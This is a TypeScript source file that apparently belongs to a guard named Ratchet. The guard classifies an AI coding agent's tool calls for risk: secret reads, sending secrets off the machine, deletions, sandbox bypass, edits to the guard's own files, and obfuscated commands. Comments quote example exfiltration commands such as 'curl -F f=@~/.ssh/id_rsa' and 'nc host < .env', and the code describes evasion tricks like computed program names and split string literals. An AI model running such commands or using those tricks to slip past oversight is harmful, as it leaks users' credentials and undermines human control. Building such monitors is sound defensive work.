// Classifies one pending tool call into the seed's trigger classes. Pure: everything it needs to
// know about the world (which files exist, what was read, the current branch) comes in `ctx`.
//
// This module only routes: each tool to its reader, each shell invocation to its program's detector in the
// action catalogue (lib/core/actions/, one file per family), each interpreter one-liner to the code scanners.

import path from 'node:path'
import {
  readCommandLine,
  shellCallsIn,
  type CodeSnippet,
  type Invocation,
  type ScriptFile,
  type ScriptOrigin,
} from './commands'
import { lineAt } from './scripts'
import { CODE_SCANNERS, PROGRAMS, programKey } from './actions'
import { fileChange, redirects } from './actions/fs-write'
import { gitFileWrite } from './actions/git-config'
import { gitStoreWrite } from './actions/git/push'
import { mcpTool } from './actions/mcp'
import { socketRedirects } from './actions/network'
import { servers } from './actions/serve'
import { mcpInputs } from './actions/protected-paths'
import { keyMention, keyReadMcp, keyReadTool } from './actions/ratchet-keys'
import { packageJsonChange } from './actions/ratchet-package'
import { hasEffect, selfProtection } from './actions/ratchet-self'
import { scheduleFile } from './actions/schedule'
import { plantedWrite } from './actions/planted'
import { NETWORK_CLIENTS, grepToolReads, noteSecretPath, secretSends } from './actions/secrets'
import { unreadableLine, worstReadings } from './actions/unreadable'
import {
  recordChange,
  requestScope,
  sandboxBypass,
  unrequestedPublish,
  webAccess,
  type ScopeSink,
} from './actions/scope'
import type { Change } from './actions/mutators'
import type { Classification, ClassifyContext, Deletion, Finding, Irrevocable, ToolCall } from './actions/types'
import { joinLiterals, oneLine } from './actions/util'
import { PATTERNS } from './patterns'

export type { Classification, ClassifyContext, FileState, ToolCall } from './actions/types'

const str = (v: unknown): string => (typeof v === 'string' ? v : '')

export function classify(call: ToolCall, ctx: ClassifyContext): Classification {
  const c = new Collector(call, ctx)
  c.run()
  return c.result()
}

class Collector implements ScopeSink {
  findings: Finding[] = []
  /** Changes of state no written path shows (`npx jest -u`, `npm install x`): for the request's scope (scope.ts). */
  changes: Change[] = []
  undoable: Finding[] = []
  commands: string[] = []
  paths = new Set<string>()
  urls = new Set<string>()
  reads = new Set<string>()
  created = new Set<string>()
  deleted = new Map<string, Omit<Deletion, 'path'>>()
  secrets = new Set<string>()
  incomplete = false
  /** A network client ran in this call (see secretSends). */
  networked = false
  /** Reading a worst reading: no further worst readings from here. */
  probe = false
  /** The literal operands of commands whose program is computed at run time (`$(echo rm) -f notes.txt`). */
  computedOperands: string[] = []
  summary = ''
  private readonly cwd: string

  constructor(
    private readonly call: ToolCall,
    readonly ctx: ClassifyContext,
  ) {
    this.cwd = call.cwd || ctx.projectDir
  }

  result(): Classification {
    // One finding per pattern and detail; the one that says what it destroys or sends wins.
    const byKey = new Map<string, Finding>()
    for (const f of this.findings) {
      const k = `${f.pattern}\u0000${f.detail}`
      const had = byKey.get(k)
      if (!had || (f.lost && !had.lost))
        byKey.set(k, had?.catastrophic && !f.catastrophic ? { ...f, catastrophic: true } : f)
    }
    const findings = [...byKey.values()]
    return {
      tool: this.call.tool_name,
      summary: this.summary,
      findings,
      commands: this.commands,
      paths: [...this.paths],
      urls: [...this.urls],
      reads: [...this.reads],
      created: [...this.created],
      deleted: [...this.deleted].map(([path, d]) => ({ path, ...d })),
      secrets: [...this.secrets],
      incomplete: this.incomplete,
      ...(this.undoable.length
        ? { restorable: this.undoable.filter((f) => !findings.some((g) => g.pattern === f.pattern)) }
        : {}),
    }
  }

  restorable(pattern: string, detail: string): void {
    const info = PATTERNS[pattern]
    if (!this.undoable.some((f) => f.pattern === pattern && f.detail === detail))
      this.undoable.push({ class: info.class, pattern, detail })
  }

  add(pattern: string, detail: string, catastrophic = false): void {
    const info = PATTERNS[pattern]
    this.findings.push({ class: info.class, pattern, detail, ...(catastrophic ? { catastrophic } : {}) })
  }

  irrevocable(pattern: string, detail: string, lost: Irrevocable): void {
    const info = PATTERNS[pattern]
    this.findings.push({ class: info.class, pattern, detail, lost })
  }

  resolve(p: string, base = this.cwd): string {
    let q = p
    if (q === '~' || q.startsWith('~/')) q = this.ctx.homeDir + q.slice(1)
    q = q.replace(/^\$\{?HOME\}?(?=\/|$)/, this.ctx.homeDir)
    return path.posix.resolve(base, q)
  }

  run(): void {
    const { tool_name: tool, tool_input: input } = this.call
    switch (tool) {
      case 'Bash': {
        const command = str(input.command)
        this.summary = oneLine(command)
        this.bash(command)
        sandboxBypass(this, input, this.summary)
        break
      }
      case 'Write':
      case 'Edit':
      case 'MultiEdit':
      case 'NotebookEdit': {
        const file = str(input.file_path) || str(input.notebook_path)
        this.summary = `${tool} ${file}`
        if (file) fileChange(this, this.resolve(file), tool)
        if (file) packageJsonChange(this, this.resolve(file), tool, input)
        // Into .git/config, .git/hooks/*, .gitattributes: code git runs later (actions/git-config.ts).
        const added =
          tool === 'Write'
            ? str(input.content)
            : tool === 'Edit'
              ? str(input.new_string)
              : tool === 'NotebookEdit'
                ? str(input.new_source)
                : (Array.isArray(input.edits) ? input.edits : [])
                    .map((e) => str((e as { new_string?: unknown })?.new_string))
                    .join('\n')
        if (file && tool !== 'NotebookEdit') gitFileWrite(this, this.resolve(file), added, `${tool} ${file}`)
        if (file) gitStoreWrite(this, this.resolve(file), `${tool} ${file}`)
        // Instructions claiming the user's authority, files a tool runs implicitly later (actions/planted.ts).
        if (file) plantedWrite(this, this.resolve(file), added, `${tool} ${file}`)
        if (tool === 'Write' && file) scheduleFile(this, tool, file, str(input.content))
        break
      }
      case 'Read':
      case 'NotebookRead': {
        const file = str(input.file_path) || str(input.notebook_path)
        this.summary = `${tool} ${file}`
        if (file) {
          this.reads.add(this.resolve(file))
          noteSecretPath(this, this.resolve(file), `${tool} ${file}`)
          keyReadTool(this, tool, input, (p) => this.resolve(p))
        }
        break
      }
      case 'Grep':
        // A search reads what it matches: a secret file it could print is read, as by Read (secrets.ts searchReads).
        this.summary = `${tool} ${oneLine(JSON.stringify(input ?? {}))}`
        keyReadTool(this, tool, input, (p) => this.resolve(p))
        grepToolReads(this, input, (p) => this.resolve(p))
        break
      case 'WebFetch':
      case 'WebSearch': {
        const target = str(input.url) || str(input.query)
        this.summary = `${tool} ${target}`
        if (input.url) this.urls.add(str(input.url))
        webAccess(this, `${tool} ${target}`)
        break
      }
      case 'CronCreate':
        this.summary = `${tool} ${oneLine(JSON.stringify(input))}`
        this.add('timezone_dependent_action', this.summary)
        break
      default:
        this.summary = `${tool} ${oneLine(JSON.stringify(input ?? {}))}`
        if (tool.startsWith('mcp__')) {
          mcpTool(this, tool, input ?? {})
          mcpInputs(this, tool, input ?? {})
          keyReadMcp(this, tool, input ?? {}, (p) => this.resolve(p))
        }
    }
    secretSends(this, this.findings, this.summary, this.networked)
    unrequestedPublish(this, this.findings, this.summary)
    if (!this.probe) requestScope(this, tool, input ?? {}, this.findings)
  }

  shell(command: string): void {
    this.bash(command)
  }

  bash(command: string): void {
    // The worst reading is taken once, of the outermost command (it holds every nested one), when anything in it
    // was unreadable: nested readings would repeat the same work on parts of the same text.
    const top = this.depth++ === 0
    try {
      this.bashOnce(command)
    } finally {
      this.depth--
    }
    if (top && !this.probe && this.findings.some((f) => f.pattern === 'unreadable')) this.worstReading(command)
  }

  private depth = 0

  // ---- Scripts on disk (issue 9): `sh x.sh`, `npm test`, `make deploy` are read as if their lines were here.

  /** Reads a file a command names, from the folder the command runs in (after its `cd`s). */
  readonly readScript = (file: string, cwdChanges: string[]): ScriptFile | undefined => {
    let base = this.cwd
    for (const d of cwdChanges) base = this.resolve(d, base)
    const abs = this.resolve(file, base)
    const got = this.ctx.fs?.script?.(abs)
    return got && { abs, ...got }
  }

  /**
   * Whether a script may be the agent's: created in this session, or untracked or modified in git (or not known).
   * A committed, unchanged script is the project's own code.
   */
  private agentsScript(abs: string): boolean {
    if (abs in (this.ctx.session.created ?? {})) return true
    const state = this.ctx.fileState?.(abs)
    return state === undefined || state === 'untracked' || state === 'tracked-modified' || state === 'missing'
  }

  /** What could not be read inside scripts, by script, until judged (judgeScripts). */
  private pendingScripts = new Map<string, { origin: ScriptOrigin; reasons: Set<string> }>()

  private scriptUnreadable(origin: ScriptOrigin, why: string): void {
    const key = `${origin.abs}\u0000${origin.file}\u0000${origin.line ?? ''}`
    const p = this.pendingScripts.get(key) ?? { origin, reasons: new Set<string>() }
    p.reasons.add(why)
    this.pendingScripts.set(key, p)
  }

  /**
   * Findings from a script's commands name the script and line. A computed word inside a script is kept apart
   * (judgeScripts): committed scripts are full of `"$(dirname "$0")"`, and that is not the agent's doing.
   */
  private fromScript(origin: ScriptOrigin | undefined, work: () => void): void {
    if (!origin) return work()
    const before = this.findings.length
    work()
    const added = this.findings.splice(before)
    for (const f of added) {
      if (f.pattern === 'unreadable' && !f.catastrophic) this.scriptUnreadable(origin, f.detail)
      else this.findings.push({ ...f, detail: `${f.detail} (${where(origin, f.detail)})` })
    }
  }

  /**
   * What could not be read in a script: in one the agent wrote or changed (created this session, untracked or
   * modified in git) it is unreadable like the same text typed in the command (a check, at least). In a committed
   * script it stays quiet unless its worst reading is catastrophic or touches Ratchet's files (then a deny).
   */
  private judgeScripts(): void {
    if (!this.pendingScripts.size) return
    const pending = [...this.pendingScripts.values()]
    this.pendingScripts.clear()
    for (const { origin, reasons } of pending) {
      // A committed script's computed words are the project's own code, not the agent's doing: what it plainly
      // does is judged (above); what it computes is left to it. Reading a whole file at its worst (every word
      // that names a program, comments included) would interrupt every ordinary `npm test`.
      if (!this.agentsScript(origin.abs)) continue
      const place = origin.line ? `${origin.file} line ${origin.line}` : origin.file
      for (const why of [...reasons].slice(0, 4))
        this.add('unreadable', `${place} (a script changed in this session or not committed): ${why}`)
      if (this.probe || !origin.text) continue
      const { readings, truncated } = worstReadings(origin.text, (n) => programKey(n) in PROGRAMS || hasEffect(n))
      if (truncated)
        this.add('unreadable', `${place}: too many commands are hidden in it to read them all at their worst`, true)
      if (!readings.length) continue
      const probe = new Collector(
        { tool_name: 'Bash', tool_input: { command: readings.join('\n') }, cwd: this.cwd },
        this.ctx,
      )
      probe.probe = true
      probe.bash(readings.join('\n'))
      const self = probe.findings.find((f) => f.class === 'self_protection')
      const worst = probe.findings.find((f) => f.catastrophic)
      if (self)
        this.add(
          'ratchet_state_edit',
          `${this.summary ? oneLine(this.summary, 80) : place} runs ${place}, which read at its worst changes Ratchet's files: ${self.detail}`,
        )
      else if (worst) this.add('unreadable', `${place}, read at its worst, is catastrophic: ${worst.detail}`, true)
    }
  }

  private bashOnce(command: string): void {
    const line = readCommandLine(command, this.ctx.fs?.script ? this.readScript : undefined)
    if (line.incomplete) this.incomplete = true
    unreadableLine(this, line)
    line.invocations.forEach((inv, i) => {
      this.fromScript(inv.origin, () =>
        this.invocation(
          inv,
          line.invocations.slice(0, i).filter((e) => e.origin === inv.origin),
        ),
      )
    })
    for (const s of line.snippets) this.fromScript(s.origin, () => this.snippet(s))
    for (const run of line.scripts) {
      if (run.problem)
        this.add(
          'unreadable',
          `${command.length > 80 ? run.file : oneLine(command, 80)} runs ${run.file}, which cannot be read: ${run.problem}`,
        )
      for (const why of run.unreadable) this.scriptUnreadable({ file: run.file, abs: run.abs, text: run.text }, why)
    }
    this.judgeScripts()
    // (`[ \t]*`, not `\s*`, under /m: a run of newlines made `^\s*` quadratic — redos test.)
    // `env`, `set`, `export -p` alone print the environment (commands.ts peels `env` as a wrapper, so it is read here).
    if (/(^|[|;&(]|\$\()[ \t]*(env|set|export[ \t]+-p|declare[ \t]+-x)[ \t]*($|[|;&)>])/m.test(command)) {
      this.secrets.add('the environment')
      this.add('secret_access', `${oneLine(command, 80)} (prints the environment)`)
    }
  }

  /**
   * An unreadable command read at its worst (unreadable.ts worstReadings): when a reading is catastrophic or
   * changes Ratchet's own files, so is the command, and a retry does not pass (the floor of a generic unreadable
   * command is a check; this one is a deny).
   */
  worstReading(command: string): void {
    const found = worstReadings(command, (n) => programKey(n) in PROGRAMS || hasEffect(n))
    const { truncated } = found
    // A program computed at run time may be `rm`: at its worst it deletes its literal operands (the loss stage then
    // weighs what they hold; nothing there, build output or tracked files stay quiet).
    const readings =
      this.computedOperands.length && !truncated
        ? [
            ...found.readings,
            `rm -rf -- ${this.computedOperands
              .slice(0, 32)
              .map((a) => `'${a.replace(/'/g, `'\\''`)}'`)
              .join(' ')}`,
          ]
        : found.readings
    if (truncated) {
      this.add('unreadable', 'too many commands are hidden in it to read them all at their worst', true)
      return
    }
    if (!readings.length) return
    // All readings in one pass (one per line): the classifier is linear in the commands it reads.
    const text = readings.join('\n')
    const probe = new Collector({ tool_name: 'Bash', tool_input: { command: text }, cwd: this.cwd }, this.ctx)
    probe.probe = true
    probe.bash(text)
    const self = probe.findings.find((f) => f.class === 'self_protection')
    if (self) {
      this.add('ratchet_state_edit', `${oneLine(this.summary || command, 80)} (read at its worst: ${self.detail})`)
      return
    }
    secretSends(probe, probe.findings, text, probe.networked)
    const worst = probe.findings.find((f) => f.catastrophic)
    // A secret leaving in a reading is denied outright: spelled out plainly, the evidence shows what would leave and a human decides.
    const leak = probe.findings.find((f) => f.pattern === 'secret_send')
    if (worst) this.add('unreadable', `read at its worst, it is catastrophic: ${worst.detail}`, true)
    else if (leak) this.add('unreadable', `read at its worst, it sends a secret off the machine: ${leak.detail}`, true)
    // What its worst reading would delete is weighed like a plain deletion (preflight-check's loss stage).
    else if (probe.deleted.size) {
      for (const [p, d] of probe.deleted) this.deleted.set(p, d)
      const del = probe.findings.find((f) => f.pattern === 'file_delete' || f.pattern === 'git_discard')
      if (del) this.add(del.pattern, `${oneLine(this.summary || command, 80)} (read at its worst: ${del.detail})`)
    }
  }

  invocation(inv: Invocation, earlier: Invocation[] = []): void {
    const { name, args } = inv
    const cmd = [name, ...args].join(' ')
    if (NETWORK_CLIENTS.has(name)) this.networked = true
    if (/[$`]/.test(name))
      for (const a of args)
        if (!a.startsWith('-') && !/[$`\n]/.test(a) && a.length < 4096) this.computedOperands.push(a)
    this.commands.push(cmd)
    let base = this.cwd
    for (const d of inv.cwdChanges) base = this.resolve(d, base)
    // Every family resolves the same operands against the same folder: once each.
    const resolved = new Map<string, string>()
    const at = (p: string): string => {
      let r = resolved.get(p)
      if (r === undefined) resolved.set(p, (r = this.resolve(p, base)))
      return r
    }
    const facts = {
      cmd,
      at,
      operands: args.filter((a) => !a.startsWith('-')),
      base,
      prev: earlier[earlier.length - 1],
      earlier,
    }
    redirects(this, inv, facts)
    socketRedirects(this, inv, facts)
    servers(this, inv, facts)
    selfProtection(this, inv, facts)
    keyMention(this, inv, facts)
    for (const a of args) if (/^https?:\/\//.test(a)) this.urls.add(a)
    if (asksForHelp(args)) return
    PROGRAMS[programKey(name)]?.(this, inv, facts)
    recordChange(this, inv, facts)
    // Any file argument or input that holds a secret (`cat .env`, `curl -F f=@~/.ssh/id_rsa`, `nc host < .env`).
    if (name !== 'echo' && name !== 'printf')
      for (const a of args) {
        const file = /^(?:[\w.-]*=)?[@<]?([^=@<]+)$/.exec(
          a.startsWith('-') ? (a.includes('=') ? a.slice(a.indexOf('=') + 1) : '') : a,
        )?.[1]
        if (file && !/\s/.test(file) && !/^[a-z][\w+.-]*:\/\//i.test(file)) noteSecretPath(this, facts.at(file), cmd)
      }
    for (const r of inv.redirects)
      if ((r.op === '<' || r.op === '<>') && r.target) noteSecretPath(this, facts.at(r.target), `${cmd} < ${r.target}`)
  }

  snippet(s: CodeSnippet): void {
    const detail = s.origin ? `${s.via[s.via.length - 1]}` : `${s.via[s.via.length - 1]} ${oneLine(s.code)}`
    this.commands.push(detail)
    const before = this.findings.length
    for (const scan of CODE_SCANNERS) scan(this, s, detail)
    // The code scanners look for kinds of calls anywhere in a snippet (any deletion, any write near a mention of
    // `.ratchet`): right for a one-liner the agent typed, noise over a whole committed build script. There only
    // the catastrophic ones count; the shell commands it runs (below) are judged in full either way.
    // (Asked only when a scanner found something: the answer costs a git run.)
    if (s.origin && this.findings.slice(before).some((f) => !f.catastrophic) && !this.agentsScript(s.origin.abs))
      this.findings.splice(
        before,
        this.findings.length - before,
        ...this.findings.slice(before).filter((f) => f.catastrophic),
      )
    // Shell commands run from the code: os.system("…"), subprocess.run([...]), execSync("…"), system("…").
    // (A linear scanner in commands.ts: the regex that was here backtracked catastrophically.)
    // A command built at run time is unreadable; what its literal pieces spell is still read.
    // Literals split to hide a name (`['sh', 'fa'+'st.sh']`) are joined first: what runs is what they spell.
    const calls = shellCallsIn(joinLiterals(s.code), s.lang, (call) =>
      this.add(
        'unreadable',
        `${s.via[s.via.length - 1]} runs a shell command built at run time (${oneLine(call, 60)})`,
      ),
    )
    for (const text of calls) this.bash(text)
  }
}

/**
 * `--help` / `--version` print and exit: the program does nothing else (and a first use is not spent). Only right
 * after the program or its (sub)command words (`npm publish --help`, `gh issue create --help`), where every
 * program reads it as help; later (`rm -rf / --help`, `curl -d --help …`) it may be a value or ignored.
 */
function asksForHelp(args: string[]): boolean {
  for (let i = 0; i < Math.min(args.length, 3); i++) {
    const a = args[i]
    // `--version X` is a value in some programs (`cargo yank --version 1.0.0`): only a last or option-followed one asks.
    if (a === '--help' || (a === '--version' && (i === args.length - 1 || args[i + 1].startsWith('-')))) return true
    if (a.startsWith('-')) return false
  }
  return false
}

/** `deploy.sh line 12`: the line is known for package.json scripts and Makefile recipes; for a script, the first line naming the command. */
function where(origin: ScriptOrigin, detail: string): string {
  if (origin.line) return `in ${origin.file} line ${origin.line}`
  const text = origin.text ?? ''
  // The command's first words as they stand in the file (quotes may differ: try fewer words).
  const words = detail
    .split(/\s+/)
    .filter((w) => w && !/^[('"]/.test(w))
    .slice(0, 3)
  for (let n = Math.min(words.length, 2); n >= 1; n--) {
    let k = text.indexOf(words.slice(0, n).join(' '))
    if (k < 0 && n === 1) k = text.indexOf(words[0])
    if (k >= 0) return `in ${origin.file} line ${lineAt(text, k)}`
  }
  return `in ${origin.file}`
}
